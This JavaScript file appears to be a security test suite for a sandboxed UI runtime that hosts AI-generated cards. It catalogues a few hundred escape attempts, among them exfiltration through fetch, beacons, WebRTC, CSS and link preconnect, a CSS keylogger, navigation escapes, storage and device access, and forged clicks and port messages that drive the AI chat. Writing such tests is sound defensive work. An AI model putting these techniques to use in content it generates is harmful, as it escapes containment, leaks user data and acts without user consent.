// The attacks on the boundary, by name. Each is a function of x: u(path) is an address
// that must never be asked for, dns a name that must never be looked up, udp a port that
// must never be sent to, runtime the runtime's own script. An attack that gets hold of
// something gives a text that begins with "reached". Whatever it throws is caught.
// `solo` ones may end the document and get one of their own; `click` ones run in answer
// to a real click.

export const attacks = {
  // requests by script
  "fetch": { run: (x) => fetch(x.u(), { mode: "no-cors" }) },
  "fetch keepalive": { run: (x) => fetch(x.u(), { method: "POST", body: "secret", keepalive: true, mode: "no-cors" }) },
  "fetchLater": { run: (x) => fetchLater(x.u(), { activateAfter: 0 }) },
  "XMLHttpRequest": { run: (x) => { const r = new XMLHttpRequest(); r.open("GET", x.u()); r.send(); } },
  "WebSocket": { run: (x) => new WebSocket(x.u().replace("http", "ws")) },
  "EventSource": { run: (x) => new EventSource(x.u()) },
  "sendBeacon": { run: (x) => navigator.sendBeacon(x.u(), "secret") },
  "sendBeacon by prototype": { run: (x) => Navigator.prototype.sendBeacon.call(navigator, x.u(), "secret") },
  "WebTransport": { run: (x) => new WebTransport(x.u().replace("http:", "https:")) },
  "WebRTC": { run: (x) => stun(window, x) },
  "WebRTC, about:blank": { run: (x) => stun(child(x, {}).contentWindow, x) },
  "WebRTC, srcdoc": { run: (x) => child(x, { srcdoc: `<script>(${stun})(window, ${JSON.stringify({ udp: x.udp })})</script>` }) },
  "WebRTC, srcdoc by markup": { run: (x) => markup(`<iframe srcdoc="<script>(${String(stun).replaceAll('"', "&quot;")})(window, {udp: ${x.udp}})</script>"></iframe>`) },
  "WebRTC, data frame": { run: (x) => child(x, { src: `data:text/html,<script>(${stun})(window, {udp: ${x.udp}})</script>` }) },
  "WebRTC, blob frame": { run: (x) => child(x, { src: URL.createObjectURL(new Blob([`<script>(${stun})(window, {udp: ${x.udp}})</script>`], { type: "text/html" })) }) },
  "the runtime's script in a srcdoc": { run: (x) => repeat(x, child(x, { srcdoc: `<body><script>${x.runtime}</script>` })) },
  "the runtime's script in a srcdoc, by markup": { run: (x) => { const f = markup(`<iframe></iframe>`).querySelector("iframe"); f.setAttribute("srcdoc", `<body><img name=createElement><script>${x.runtime}</script>`); return repeat(x, f); } },
  "the runtime's script from the page": { run: () => document.scripts.length && "reached " + document.scripts[0].text.length + " characters" },
  // elements that load
  "img": { run: (x) => { new Image().src = x.u(); } },
  "asset, fetched": { run: async (x) => { await fetch("asset:beach.png"); return "reached a picture by its name"; } },
  "asset, an element of its own": { run: (x) => { new Image().src = "asset:" + x.u(); put("img", { src: "asset:../" + x.u() }); } },
  "asset, a style": { run: (x) => put("div", { style: `background: url("asset:${x.u()}")` }) },
  "asset, a frame": { run: (x) => child(x, { src: "asset:" + x.u() }) },
  "img srcset": { run: (x) => put("img", { srcset: x.u() + " 1x" }) },
  "picture": { run: (x) => markup(`<picture><source srcset="${x.u()}"><img></picture>`) },
  "img by setAttributeNS": { run: (x) => { const i = put("img", {}); i.setAttributeNS(null, "src", x.u()); } },
  "input image": { run: (x) => put("input", { type: "image", src: x.u() }) },
  "svg image": { run: (x) => svg("image", { href: x.u() }) },
  "svg use": { run: (x) => svg("use", { href: x.u() + "#a" }) },
  "svg feImage": { run: (x) => svg("feImage", { href: x.u() }) },
  "video": { run: (x) => put("video", { src: x.u(), poster: x.u("poster"), autoplay: true, preload: "auto" }) },
  "audio": { run: (x) => { new Audio(x.u()).play(); } },
  "track": { run: (x) => { const v = put("video", {}); const t = document.createElement("track"); Object.assign(t, { src: x.u(), default: true }); v.append(t); t.track.mode = "showing"; } },
  "object": { run: (x) => put("object", { data: x.u() }) },
  "embed": { run: (x) => put("embed", { src: x.u() }) },
  "iframe": { run: (x) => put("iframe", { src: x.u() }) },
  "iframe by markup": { run: (x) => markup(`<iframe src="${x.u()}"></iframe>`) },
  "frame": { run: (x) => put("frame", { src: x.u() }) },
  "fencedframe": { run: (x) => put("fencedframe", { src: x.u() }) },
  "body background": { run: (x) => document.body.setAttribute("background", x.u()) },
  // style
  "css @import": { run: (x) => css(`@import url(${x.u()});`) },
  "css url": { run: (x) => { document.body.style.backgroundImage = `url(${x.u()})`; } },
  "css custom property": { run: (x) => css(`:root { --x: url(${x.u()}); } body { background: var(--x); }`) },
  "css cursor": { run: (x) => css(`* { cursor: url(${x.u()}), auto; }`) },
  "css image-set": { run: (x) => css(`body { background-image: image-set("${x.u()}" 1x); }`) },
  "css content": { run: (x) => css(`body::before { content: url(${x.u()}); }`) },
  "css list": { run: (x) => css(`li { list-style-image: url(${x.u()}); display: list-item; }`) },
  "css filter": { run: (x) => css(`body { filter: url(${x.u()}#f); }`) },
  "css mask": { run: (x) => css(`body { mask: url(${x.u()}#m); clip-path: url(${x.u("clip")}#c); }`) },
  "css font": { run: (x) => { css(`@font-face { font-family: z; src: url(${x.u()}); } body { font-family: z; }`); return document.fonts.load("12px z"); } },
  "FontFace": { run: (x) => new FontFace("y", `url(${x.u()})`).load() },
  "css shape": { run: (x) => css(`body { shape-outside: url(${x.u()}); float: left; border-image: url(${x.u("border")}); }`) },
  "css container, keylogger": { run: (x) => css(`input[value^=a] { background: url(${x.u()}); }`) },
  "constructed stylesheet": { run: (x) => { const s = new CSSStyleSheet(); s.replaceSync(`body { background: url(${x.u()}); }`); document.adoptedStyleSheets = [s]; } },
  "constructed stylesheet, base": { run: (x) => { const s = new CSSStyleSheet({ baseURL: x.u() }); s.replaceSync("body { background: url(x.png); }"); document.adoptedStyleSheets = [s]; } },
  "xml stylesheet": { run: (x) => { document.insertBefore(document.createProcessingInstruction("xml-stylesheet", `href="${x.u()}" type="text/css"`), document.documentElement); } },
  // links, by every way to an element
  "link stylesheet": { run: (x) => put("link", { rel: "stylesheet", href: x.u() }) },
  "link icon": { run: (x) => put("link", { rel: "icon", href: x.u() }) },
  "link preload": { run: (x) => put("link", { rel: "preload", as: "fetch", href: x.u() }) },
  "link prefetch": { run: (x) => put("link", { rel: "prefetch", href: x.u() }) },
  "link modulepreload": { run: (x) => put("link", { rel: "modulepreload", href: x.u() }) },
  "link prerender": { run: (x) => put("link", { rel: "prerender", href: x.u() }) },
  "link manifest": { run: (x) => put("link", { rel: "manifest", href: x.u() }) },
  "link preconnect": { run: (x) => put("link", { rel: "preconnect", href: x.u() }) },
  "link dns-prefetch": { run: (x) => put("link", { rel: "dns-prefetch", href: "//" + x.dns }) },
  "link by createElementNS": { run: (x) => connect(document.createElementNS("http://www.w3.org/1999/xhtml", "h:LINK".toLowerCase()), x) },
  "link by a changing name": { run: (x) => { let n = 0; connect(document.createElement({ toString: () => (n++ ? "link" : "b") }), x); } },
  "link by innerHTML": { run: (x) => markup(preconnect(x)) },
  "link by outerHTML": { run: (x) => { put("p", {}).outerHTML = preconnect(x); } },
  "link by insertAdjacentHTML": { run: (x) => document.body.insertAdjacentHTML("beforeend", preconnect(x)) },
  "link by a template": { run: (x) => { const t = document.createElement("template"); t.innerHTML = preconnect(x); document.body.append(t.content); } },
  "link by DOMParser": { run: (x) => document.body.append(new DOMParser().parseFromString(preconnect(x), "text/html").querySelector("link")) },
  "link by a fragment": { run: (x) => document.body.append(document.createRange().createContextualFragment(preconnect(x))) },
  "link by setHTMLUnsafe": { run: (x) => document.body.setHTMLUnsafe(preconnect(x)) },
  "link by setHTML": { run: (x) => put("div", {}).setHTML(preconnect(x), { sanitizer: { elements: ["link"], attributes: ["rel", "href"] } }) },
  "link by parseHTMLUnsafe": { run: (x) => document.body.append(Document.parseHTMLUnsafe(preconnect(x)).querySelector("link")) },
  "link by document.write": { run: (x) => document.write(preconnect(x)) },
  "link by execCommand": { run: (x) => { const d = put("div", { contentEditable: "true" }); d.focus(); document.execCommand("insertHTML", false, preconnect(x)); } },
  "link by createDocument": { run: (x) => connect(document.adoptNode(document.implementation.createDocument("http://www.w3.org/1999/xhtml", "link").documentElement), x) },
  "link by another document": { run: (x) => connect(document.implementation.createHTMLDocument().createElement("link"), x) },
  "link by a new Document": { run: (x) => connect(new Document().createElementNS("http://www.w3.org/1999/xhtml", "link"), x) },
  "link by XSLT": { run: (x) => { const d = document.implementation.createDocument("http://www.w3.org/1999/XSL/Transform", "xsl:transform"); const p = new XSLTProcessor(); p.importStylesheet(d); document.body.append(p.transformToFragment(d, document)); } },
  "link by a custom element": { run: (x) => { class L extends HTMLLinkElement {} customElements.define("l-l", L, { extends: "link" }); connect(new L(), x); } },
  "link by its constructor": { run: (x) => connect(new HTMLLinkElement(), x) },
  "link by Reflect.construct": { run: (x) => connect(Reflect.construct(HTMLElement, [], HTMLLinkElement), x) },
  "link by a clone": { run: (x) => { const l = document.querySelector("link, style").cloneNode(); Object.setPrototypeOf(l, HTMLLinkElement.prototype); connect(l, x); } },
  "link by React": { solo: true, run: (x) => x.draw("link", { rel: "preconnect", href: x.u() }) },
  // scripts
  "script src": { run: (x) => put("script", { src: x.u() }) },
  "script inline": { run: () => put("script", { text: "globalThis.inlineRan = true" }) && globalThis.inlineRan && "reached inline script" },
  "script in svg": { run: (x) => svg("script", { href: x.u() }) },
  "script by markup": { run: (x) => markup(`<img src=x onerror="globalThis.handlerRan = true">`) },
  "handler attribute": { run: () => { const b = put("button", {}); b.setAttribute("onclick", "globalThis.handlerRan = true"); b.click(); return globalThis.handlerRan && "reached an inline handler"; } },
  "import()": { run: (x) => import(x.u("m.js")) },
  "import() of data": { run: (x) => import("data:text/javascript,globalThis.dataRan=1").then(() => "reached a data module") },
  "import in a blob module": { run: (x) => import(URL.createObjectURL(new Blob([`import "${x.u("m.js")}"`], { type: "text/javascript" }))) },
  "speculation rules": { run: (x) => put("script", { type: "speculationrules", text: JSON.stringify({ prefetch: [{ urls: [x.u()] }], prerender: [{ urls: [x.u()] }] }) }) },
  "eval": { run: () => (0, eval)("1") && "reached eval" },
  "new Function": { run: () => new Function("return 1")() && "reached Function" },
  "setTimeout of a text": { run: () => new Promise((done) => { setTimeout("globalThis.textRan = 1"); setTimeout(() => done(globalThis.textRan && "reached a timer's text"), 50); }) },
  "Worker": { run: (x) => new Worker(x.u()) },
  "Worker, blob": { run: (x) => new Worker(URL.createObjectURL(new Blob([`fetch("${x.u()}")`]))) },
  "SharedWorker": { run: (x) => new SharedWorker("data:text/javascript,fetch('" + x.u() + "')") },
  "ServiceWorker": { run: (x) => navigator.serviceWorker.register(x.u()) },
  "AudioWorklet": { run: (x) => new AudioContext().audioWorklet.addModule(URL.createObjectURL(new Blob([`import "${x.u("m.js")}"`], { type: "text/javascript" }))) },
  "PaintWorklet": { run: (x) => CSS.paintWorklet.addModule(x.u("m.js")) },
  "a script of its own by the policy": { run: (x) => { const p = trustedTypes.createPolicy("ui4a", { createScriptURL: (s) => s }); return p && "reached a policy"; } },
  "the default policy": { run: (x) => { trustedTypes.createPolicy("default", { createHTML: (s) => s }); return "reached a policy"; } },
  "define again": { run: () => { globalThis.__ui4a.define({ revision: "forged" }, () => () => null); return "reached define"; } },
  // forms and links
  "form": { solo: true, run: (x) => { const f = put("form", { action: x.u(), method: "post" }); f.append(document.createElement("input")); f.submit(); } },
  "form to a new tab": { run: (x) => put("form", { action: x.u(), target: "_blank" }).submit() },
  "form to the top": { run: (x) => put("form", { action: x.u(), target: "_top" }).submit() },
  "a ping": { solo: true, click: true, run: (x) => put("a", { href: "#x", ping: x.u() }).click() },
  "a download": { solo: true, click: true, run: (x) => put("a", { href: x.u(), download: "x" }).click() },
  "a": { solo: true, click: true, run: (x) => put("a", { href: x.u() }).click() },
  "a to a new tab": { click: true, run: (x) => put("a", { href: x.u(), target: "_blank" }).click() },
  "a to the top": { click: true, run: (x) => put("a", { href: x.u(), target: "_top" }).click() },
  "a to the parent": { click: true, run: (x) => put("a", { href: x.u(), target: "_parent" }).click() },
  "svg a": { solo: true, click: true, run: (x) => svg("a", { href: x.u() }).dispatchEvent(new MouseEvent("click", { bubbles: true })) },
  "area": { solo: true, run: (x) => put("area", { href: x.u() }).click() },
  // navigation
  "location": { solo: true, run: (x) => { location.href = x.u(); } },
  "location.replace": { solo: true, run: (x) => location.replace(x.u()) },
  "location, data": { solo: true, run: (x) => { location = `data:text/html,<img src="${x.u()}"><script>fetch("${x.u()}")</script>`; } },
  "location, blob": { solo: true, run: (x) => { location = URL.createObjectURL(new Blob([`<img src="${x.u()}"><script>(${stun})(window, {udp: ${x.udp}})</script>`], { type: "text/html" })); } },
  "location, javascript": { solo: true, run: (x) => { location = `javascript:'<img src="${x.u()}">'`; } },
  "location, own server": { solo: true, run: (x) => { location = x.own; } },
  "location.reload": { solo: true, run: () => location.reload() },
  "window.name and reload": { solo: true, run: () => { name = "secret"; location.reload(); } },
  "history": { solo: true, run: (x) => history.pushState({}, "", x.u()) },
  "navigation.navigate": { solo: true, run: (x) => navigation.navigate(x.u()) },
  "meta refresh": { solo: true, run: (x) => put("meta", { httpEquiv: "refresh", content: "0;url=" + x.u() }, document.head) },
  "meta refresh by markup": { solo: true, run: (x) => { document.head.innerHTML = `<meta http-equiv=refresh content="0;url=${x.u()}">`; } },
  "meta policy with a report": { run: (x) => { put("meta", { httpEquiv: "Content-Security-Policy", content: "img-src 'none'; report-uri " + x.u() }, document.head); new Image().src = "data:x"; } },
  "base": { run: (x) => { put("base", { href: x.u() }, document.head); new Image().src = "x.png"; } },
  "top.location": { solo: true, click: true, run: (x) => { top.location = x.u(); } },
  "parent.location": { solo: true, click: true, run: (x) => { parent.location.replace(x.u()); } },
  "parent's fragment": { solo: true, click: true, run: (x) => { parent.location.hash = "secret"; } },
  "window.open": { click: true, run: (x) => window.open(x.u()) && "reached a window" },
  "open by prototype": { click: true, run: (x) => Object.getPrototypeOf(window).open.call(window, x.u()) && "reached a window" },
  // reach
  "parent's document": { run: () => parent.document && "reached it" },
  "top's document": { run: () => top.document.title && "reached it" },
  "the frame's element": { run: () => window.frameElement && "reached it" },
  "opener": { run: () => window.opener && "reached it" },
  "other frames": { run: () => parent.frames[0].document && parent.frames[0] !== window && "reached it" },
  "a frame of its own": { run: (x) => child(x, {}).contentWindow.document && "reached a document" },
  "localStorage is memory": { run: () => { localStorage.setItem("a", "b"); return localStorage.getItem("a") !== "b" && "reached nothing that works"; } },
  "cookie": { run: () => { document.cookie = "a=b"; return document.cookie && "reached cookies"; } },
  "cookie by prototype": { run: () => { const d = Object.getOwnPropertyDescriptor(Document.prototype, "cookie"); d.set.call(document, "a=b"); return d.get.call(document) && "reached cookies"; } },
  "IndexedDB": { run: () => indexedDB.open("a") && "reached it" },
  "caches": { run: () => caches.open("a").then(() => "reached it") },
  "cookieStore": { run: () => cookieStore.set("a", "b").then(() => "reached it") },
  "BroadcastChannel": { run: () => new BroadcastChannel("a") && "reached it" },
  "storage directory": { run: () => navigator.storage.getDirectory().then(() => "reached it") },
  "clipboard write": { click: true, run: () => navigator.clipboard.writeText("a").then(() => "reached it") },
  "clipboard read": { click: true, run: () => navigator.clipboard.readText().then(() => "reached it") },
  "clipboard by execCommand": { click: true, run: () => document.execCommand("copy") && "reached it" },
  "camera": { run: () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => "reached it") },
  "screen": { click: true, run: () => navigator.mediaDevices.getDisplayMedia().then(() => "reached it") },
  "geolocation": { run: () => new Promise((done, no) => navigator.geolocation.getCurrentPosition(() => done("reached it"), no)) },
  "notification": { click: true, run: () => Notification.requestPermission().then((p) => p === "granted" && "reached it") },
  "fullscreen": { click: true, run: () => document.body.requestFullscreen().then(() => "reached it") },
  "pointer lock": { click: true, run: () => document.body.requestPointerLock().then(() => document.pointerLockElement && "reached it") },
  "payment": { run: () => new PaymentRequest([{ supportedMethods: "https://pay.test" }], { total: { label: "a", amount: { currency: "EUR", value: "1" } } }) && "reached it" },
  "credentials": { run: () => navigator.credentials.get({ password: true }).then(() => "reached it") },
  "federated sign-in": { click: true, run: (x) => navigator.credentials.get({ identity: { providers: [{ configURL: x.u("config.json"), clientId: "a" }] } }) },
  "USB": { click: true, run: () => navigator.usb.requestDevice({ filters: [] }).then(() => "reached it") },
  "share": { click: true, run: () => navigator.share({ text: "a" }).then(() => "reached it") },
  "wake lock": { run: () => navigator.wakeLock.request().then(() => "reached it") },
  "alert": { run: () => alert("a") },
  "confirm": { run: () => confirm("a") && "reached it" },
  "print": { run: () => print() },
  "open a file": { click: true, run: () => showOpenFilePicker().then(() => "reached it") },
  "a file by an input": { run: () => { const i = put("input", { type: "file" }); i.showPicker(); return "reached it"; } },
  "media session": { run: (x) => { navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: x.u() }] }); } },
  "protocol handler": { run: (x) => navigator.registerProtocolHandler("web+a", x.u() + "?%s") },
  "shared storage": { run: () => sharedStorage.set("a", "b").then(() => "reached it") },
  "find in page": { run: () => window.find("a") && "reached it" },
  // the port, Actions, the library
  "message to the parent": { run: () => { parent.postMessage('{"t":"action","n":1,"kind":"message","text":"forged by message","reads":[],"execution":"event","noai":[]}', "*"); } },
  "a port of its own": { run: () => { const c = new MessageChannel(); parent.postMessage("port", "*", [c.port2]); c.port1.postMessage('{"t":"action","n":1,"kind":"message","text":"forged by port","reads":[],"execution":"event","noai":[]}'); } },
  "sendMessage on mount": { run: (x) => x.chat.sendMessage("forged on mount").then((r) => r.outcome !== "refused" && "reached the model") },
  "sendAction from a timer": { run: (x) => new Promise((done) => setTimeout(() => x.chat.sendAction({ name: "forged" }).then((r) => done(r.outcome !== "refused" && "reached the model")), 30)) },
  "a click of its own": { run: (x) => new Promise((done) => { const b = put("button", { onclick: () => x.chat.sendMessage("forged by click").then((r) => done(r.outcome !== "refused" && "reached the model")) }); b.click(); b.dispatchEvent(new PointerEvent("pointerdown", { bubbles: true })); b.dispatchEvent(new MouseEvent("click", { bubbles: true })); }) },
  "a trusted event by prototype": { run: (x) => { Object.defineProperty(Event.prototype, "isTrusted", { get: () => true }); Object.defineProperty(UserActivation.prototype, "isActive", { get: () => true }); window.dispatchEvent(new Event("click")); return x.chat.sendMessage("forged by prototype").then((r) => r.outcome !== "refused" && "reached the model"); } },
  "the port by postMessage": { run: (x) => new Promise((done) => { const p = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (m) { if (typeof m === "string" && m.startsWith('{"t"')) done("reached the port"); return p.apply(this, arguments); }; x.set("probe", 1); setTimeout(done, 250); }) },
  "the port by Function.prototype.call": { run: (x) => { let stolen = ""; const c = Function.prototype.call, a = Function.prototype.apply; Function.prototype.call = function (...z) { if (z[0] instanceof MessagePort && this === MessagePort.prototype.postMessage) stolen = "call"; return Reflect.apply(this, z[0], z.slice(1)); }; x.set("probe", 2); return new Promise((done) => setTimeout(() => { Function.prototype.call = c; Function.prototype.apply = a; done(stolen && "reached the port"); }, 200)); } },
  "toJSON on a prototype": { run: (x) => { String.prototype.toJSON = Object.prototype.toJSON = () => ({ forged: true }); x.set("probe", {}); x.chat.sendMessage("a"); delete String.prototype.toJSON; delete Object.prototype.toJSON; } },
  "pollution of the host": { run: (x) => { x.set("probe", JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}')); x.set("__proto__", 1); } },
  "an undeclared key": { run: (x) => x.set("undeclared", "forged state") },
  "a message too long": { run: (x) => x.set("probe", "x".repeat(200000)) },
  "exports of the library": { run: (x) => { try { x.ui.Button = () => null; } catch {} return x.ui.Button.toString() === "() => null" && "reached an export"; } },
  "the registry": { run: (x) => { x.modules["$ui4a/chat"] = {}; return x.modules["$ui4a/chat"] !== x.chat && "reached the registry"; } },
  "the runtime's entry": { run: () => { globalThis.__ui4a = {}; return !globalThis.__ui4a.define && "reached it"; } },
};

function child(x, props) {
  const f = document.createElement("iframe");
  Object.assign(f, props);
  document.body.append(f);
  return f;
}

function put(name, props, place = document.body) {
  const e = document.createElement(name);
  for (const [k, v] of Object.entries(props)) k in e ? (e[k] = v) : e.setAttribute(k, v);
  place.append(e);
  return e;
}

function svg(name, attributes) {
  const s = document.createElementNS("http://www.w3.org/2000/svg", "svg"), e = document.createElementNS("http://www.w3.org/2000/svg", name);
  for (const [k, v] of Object.entries(attributes)) {
    e.setAttribute(k, v);
    e.setAttributeNS("http://www.w3.org/1999/xlink", "xlink:" + k, v);
  }
  s.append(e);
  document.body.append(s);
  return e;
}

function css(text) {
  const s = document.createElement("style");
  s.textContent = text;
  document.body.append(s, document.createElement("li"));
}

function markup(html) {
  const d = document.createElement("div");
  document.body.append(d);
  d.innerHTML = html;
  return d;
}

const preconnect = (x) => `<link rel=preconnect href="${x.u()}"><link rel=dns-prefetch href="//${x.dns}">`;

function connect(link, x) {
  link.rel = "preconnect";
  link.href = x.u();
  link.setAttribute("rel", "preconnect");
  link.setAttribute("href", x.u());
  document.body.append(link);
}

function stun(w, x) {
  const P = w.RTCPeerConnection || w.webkitRTCPeerConnection;
  const c = new P({ iceServers: [{ urls: `stun:127.0.0.1:${x.udp}` }] });
  c.createDataChannel("a");
  return c.createOffer().then((o) => c.setLocalDescription(o));
}

// The card plays the host for a frame with the runtime in it, and has it run a script.
function repeat(x, frame) {
  return new Promise((done) => {
    const c = new MessageChannel();
    frame.onload = () => {
      frame.contentWindow.postMessage("port", "*", [c.port2]);
      c.port1.onmessage = (e) => e.data.includes("got out") && done("reached a realm of its own");
      c.port1.postMessage(JSON.stringify({ t: "init", state: {}, private: {}, theme: {} }));
      c.port1.postMessage(JSON.stringify({ t: "card", script: `__ui4a.define({}, (m) => () => { if (window.RTCPeerConnection || window.fetch) m["$ui4a/state"].usePersistedState("a", "got out"); (${stun})(window, {udp: ${x.udp}}); return null; })` }));
      setTimeout(done, 400);
    };
    setTimeout(done, 800);
  });
}
